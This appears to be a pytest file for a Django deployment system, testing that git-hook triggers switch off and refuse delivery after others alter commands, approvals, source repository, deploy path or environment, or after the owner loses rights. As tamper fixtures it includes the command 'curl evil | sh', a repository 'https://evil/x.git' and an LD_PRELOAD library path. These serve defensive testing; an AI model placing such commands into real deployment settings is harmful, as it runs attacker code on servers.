"""In whose name triggers deliver: what others changed turns them off, and an owner who may not (any more) delivers nothing."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest

from accounts.models import User
from adminset.errors import Forbidden
from adminset.models import AuditEntry
from appconf.models import Project
from delivery.models import Deploy, DeployRequest, GitHook, GitHookDelivery
from delivery.triggers import vouching
from delivery.triggers.making import make
from delivery.triggers.saving import switch_trigger
from delivery.way_models import Way
from tasks.services.vouching import ChangedError
from tests.app_factories import grant_on
from tests.appconf.config_things import make_variable
from tests.delivery.safety.safety_things import Paper
from tests.delivery.triggers.trigger_things import call, make_githook, push
from tests.factories import make_user

pytestmark = pytest.mark.django_db
Change = Callable[[Paper], Any]


def change_commands(paper: Paper) -> None:
    paper.way(after_switch="curl evil | sh")


def change_approvals(paper: Paper) -> None:
    paper.way(approvals_needed=0, guarded_kinds=["staging"])


def change_source(paper: Paper) -> None:
    Project.objects.filter(pk=paper.pipeline.project_id).update(
        source_address="https://evil/x.git"
    )


def change_path(paper: Paper) -> None:
    paper.environment.deploy_path = "/srv/elsewhere"
    paper.environment.save()


def steer(paper: Paper) -> None:
    make_variable(paper.environment, "LD_PRELOAD", value="/srv/x.so")


@pytest.mark.parametrize(
    ("change", "named"),
    [
        (change_commands, "pipeline"),
        (change_approvals, "pipeline"),
        (change_source, "source"),
        (change_path, "deploy path"),
        (steer, "steers programs"),
    ],
)
def test_what_others_changed_turns_the_web_hook_off(
    paper: Paper, change: Change, named: str
) -> None:
    hook = make_githook(paper)
    change(paper)
    assert call(hook, push()).json()["verdict"] == "refused"
    hook.refresh_from_db()
    assert not hook.enabled
    assert named in hook.notice
    assert named in GitHookDelivery.objects.get().words
    assert not DeployRequest.objects.exists()
    assert AuditEntry.objects.filter(verb="githook.update").exists()
    assert call(hook, push()).status_code == 404


def test_fields_that_came_later_turn_nothing_off_before_they_say_something(
    paper: Paper, monkeypatch: pytest.MonkeyPatch
) -> None:
    hook = make_githook(paper)
    with monkeypatch.context() as before:
        fields = [name for name in Way.FIELDS if name not in Way.LATER]
        before.setattr(Way, "FIELDS", tuple(fields))
        before.setattr(Way, "LATER", {})
        vouching.vouch(hook)
    vouching.ensure_vouched(hook)
    paper.way(gate_measure="rate")
    with pytest.raises(ChangedError):
        vouching.ensure_vouched(hook)


def test_an_ordinary_variable_turns_nothing_off(paper: Paper) -> None:
    hook = make_githook(paper)
    make_variable(paper.environment, "POOL_SIZE", value="9")
    assert call(hook, push()).json()["verdict"] == "started"


def test_what_changed_between_message_and_worker_is_seen(paper: Paper) -> None:
    hook = make_githook(paper)
    call(hook, push())
    change_commands(paper)
    row = DeployRequest.objects.get()
    make(row.pk)
    row.refresh_from_db()
    hook.refresh_from_db()
    assert (row.state, row.code, hook.enabled) == ("refused", "changed_since", False)
    assert not Deploy.objects.exists()
    assert AuditEntry.objects.filter(verb="deploy.request_refused").exists()


def test_who_turns_it_on_again_has_looked_and_delivers_as_himself(paper: Paper) -> None:
    hook = make_githook(paper, run_as=make_user("former"))
    change_commands(paper)
    switch_trigger(actor=paper.user, row=hook, enabled=False, reason="look")
    switch_trigger(actor=paper.user, row=hook, enabled=True)
    assert call(hook, push()).json()["verdict"] == "started"
    assert DeployRequest.objects.get().asked_by == paper.user


def test_an_owner_who_may_not_deliver_any_more_delivers_nothing(paper: Paper) -> None:
    owner = make_user("owner")
    grant_on(
        owner,
        ["delivery.add_deploy", "appconf.deploy_environment"],
        paper.pipeline.project,
    )
    hook = make_githook(paper, run_as=owner)
    owner.grants.all().delete()
    assert call(hook, push()).json()["verdict"] == "refused"
    hook.refresh_from_db()
    assert not hook.enabled
    assert not DeployRequest.objects.exists()


def test_an_owner_who_left_delivers_nothing(paper: Paper) -> None:
    owner = make_user("owner")
    hook = make_githook(paper, run_as=owner)
    User.objects.filter(pk=owner.pk).update(is_active=False)
    assert call(hook, push()).json()["verdict"] == "refused"
    GitHook.objects.update(enabled=True, run_as=None)
    assert call(hook, push()).json()["verdict"] == "refused"
    assert not DeployRequest.objects.exists()


def test_nobody_turns_on_what_he_could_not_begin_by_hand(paper: Paper) -> None:
    hook = make_githook(paper, enabled=False)
    stranger = make_user("stranger")
    with pytest.raises(Forbidden):
        switch_trigger(actor=stranger, row=hook, enabled=True)
    hook.refresh_from_db()
    assert (hook.enabled, hook.run_as) == (False, paper.user)
